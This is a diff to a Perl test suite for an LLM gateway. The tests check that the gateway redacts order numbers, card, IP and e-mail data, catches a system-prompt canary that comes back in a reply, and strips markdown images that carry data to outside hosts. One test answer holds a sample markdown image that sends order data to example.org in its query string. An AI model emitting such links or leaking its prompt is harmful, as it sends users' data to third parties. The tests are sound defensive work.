@@ -408,7 +408,9 @@ sub guarded {
     my $ask = sub {
         my ($json, %arg) = @_;
 
-        return curl("https://models.example.com:$port/v1/chat/completions",
+        my $path = delete $arg{path} // "v1/chat/completions";
+
+        return curl("https://models.example.com:$port/$path",
                     json => $json, %arg,
                     args => [ "--cacert", "$dir/server.crt", "--connect-to",
                               "models.example.com:$port:127.0.0.1:$port" ]);
@@ -623,6 +625,61 @@ subtest "request-rules" => sub {
         "and one for the log";
     like $nginx->log_of("access.log"), qr/ 403 small gpt-4o block model_denied /,
         "which says why others were refused";
+
+    quiet($nginx);
+};
+
+
+subtest "sensitive" => sub {
+    my ($dir) = directory();
+
+    spew("$dir/shop.rules", slurp("$LLMG::Nginx::root/conf-examples/shop.rules"));
+
+    my ($nginx, $model, $ask) = guarded("sensitive", $dir);
+
+    my $sent = sub {
+        my $r = $ask->(chat($_[0]));
+        return $r->{status} == 200
+               ? decoded({ body => $model->received->{body} })
+                 ->{messages}[-1]{content}
+               : $r->{status};
+    };
+
+    is $sent->("order SO-2024-000018, badge 123-456-6"),
+        "order [SHOP_ORDER], badge [SHOP_BADGE]", "rules of one's own";
+    is $sent->("what of Project Blue Heron?"), 400, "a project";
+    is $sent->("pay with $card, CVV: 123"),
+        "pay with ************4242, CVV: [CARD_CVV]", "pci";
+    is $sent->("from 203.0.113.9 and 10.1.2.3"),
+        "from [IP_ADDRESS] and 10.1.2.3", "gdpr, and our own network";
+    is $sent->("key $key"), 400, "default";
+    is $sent->("Support\@shop.example.com, a\@partner.example.net, $mail"),
+        "Support\@shop.example.com, a\@partner.example.net, [EMAIL_ADDRESS]",
+        "what may be said";
+
+    is said($ask->(chat("Hello"), header =>
+                   [ "x-standin-answer: it is SO-2024-000018" ])),
+        "it is [SHOP_ORDER]", "in an answer";
+
+    $ask->({ model => "gpt-4o", messages => [ { role => "system",
+             content => "Be kind." }, { role => "user", content => "Hi" } ] });
+    decoded({ body => $model->received->{body} })->{messages}[0]{content}
+        =~ /(llmg-ref-[0-9a-f]{16})/ or fail "no marker";
+
+    is $ask->(chat("Hello"), header => [ "x-standin-answer: $1" ])->{status},
+        502, "a canary in an answer";
+
+    my $picture = "p.png?q=the%20order%20is%2012345)";
+
+    is said($ask->(chat("Hello"), header => [ "x-standin-answer: "
+                   . "![a](https://cdn.shop.example.com/$picture"
+                   . " ![b](https://example.org/$picture" ])),
+        "![a](https://cdn.shop.example.com/$picture [EXFIL_MARKDOWN]",
+        "pictures from our own host";
+
+    $ask->(chat("write to $mail"), path => "docs/v1/chat/completions");
+    is decoded({ body => $model->received->{body} })->{messages}[-1]{content},
+        "write to $mail", "documentation";
 
     quiet($nginx);
 };
